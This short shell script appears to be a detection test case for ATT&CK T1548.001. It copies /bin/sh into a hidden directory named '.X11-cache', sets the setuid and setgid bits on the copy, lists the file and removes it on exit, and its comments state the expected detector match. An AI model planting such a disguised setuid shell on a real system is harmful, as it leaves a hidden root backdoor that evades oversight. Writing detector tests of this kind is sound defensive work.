#!/bin/sh
# technique: T1548.001 Abuse Elevation Control Mechanism: Setuid and Setgid
# reproduces: the setuid/setgid copy of a shell left behind as a way back to root (ATT&CK T1548.001 procedure); on a non-ephemeral self-hosted runner (PyTorch, Praetorian 2024) a root job can plant it for later jobs
# expect: setuid-bit-set ^chmod$
# exec-borne: no
#
# cp /bin/sh, then chmod u+s and g+s. The copy is never run.
set -u

stash="${BW_ATTACK_TMP:?}/.X11-cache"
mkdir -p "$stash"
trap 'rm -rf "$stash"' EXIT

cp /bin/sh "$stash/Xsh" || exit 1
chmod u+s "$stash/Xsh" || exit 1
chmod g+s "$stash/Xsh" || exit 1
ls -l "$stash/Xsh"
